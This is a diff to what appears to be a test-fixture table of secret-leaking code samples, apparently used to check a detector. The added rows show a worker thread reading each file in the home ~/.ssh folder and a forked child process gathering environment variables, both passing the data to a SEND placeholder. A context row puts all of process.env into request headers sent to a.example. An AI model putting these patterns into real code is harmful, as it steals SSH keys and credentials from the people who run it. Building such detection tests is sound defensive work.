@@ -243,6 +243,24 @@ const CHANNELS: readonly Row[] = [
     'const s=new Proxy({},{get:(_,k)=>Reflect.get(process.env,k),ownKeys:()=>Reflect.ownKeys(process.env)});const b={};for(const k of Reflect.ownKeys(s))b[k]=s[k];SEND«JSON.stringify(b)»',
   ],
   [
+    'folders that a worker is told of',
+    {
+      'index.js':
+        "const {Worker}=require('worker_threads');class Pool{constructor(f,workerData){this.w=new Worker(f,{workerData})}} new Pool('./w.js',{root:require('os').homedir(),dirs:['.ssh']})",
+      'w.js':
+        "const {workerData}=require('worker_threads');const fs=require('fs');for(const d of workerData.dirs){const p=workerData.root+'/'+d;for(const f of fs.readdirSync(p))SEND«fs.readFileSync(p+'/'+f)»}",
+    },
+  ],
+  [
+    'one of two things that a child is told of',
+    {
+      'index.js':
+        "const c=require('child_process').fork('./c.js');c.send({dir:process.cwd(),names:Object.keys(process.env)})",
+      'c.js':
+        "process.once('message',(m)=>{const o={dir:m.dir};m.names.forEach((n)=>{o[n]=process.env[n]});SEND«JSON.stringify(o)»})",
+    },
+  ],
+  [
     'what a client sends with every request',
     "const axios=require('axios').default;axios.defaults.headers.common['x-e']=JSON.stringify(process.env);axios.get('https://a.example')",
   ],
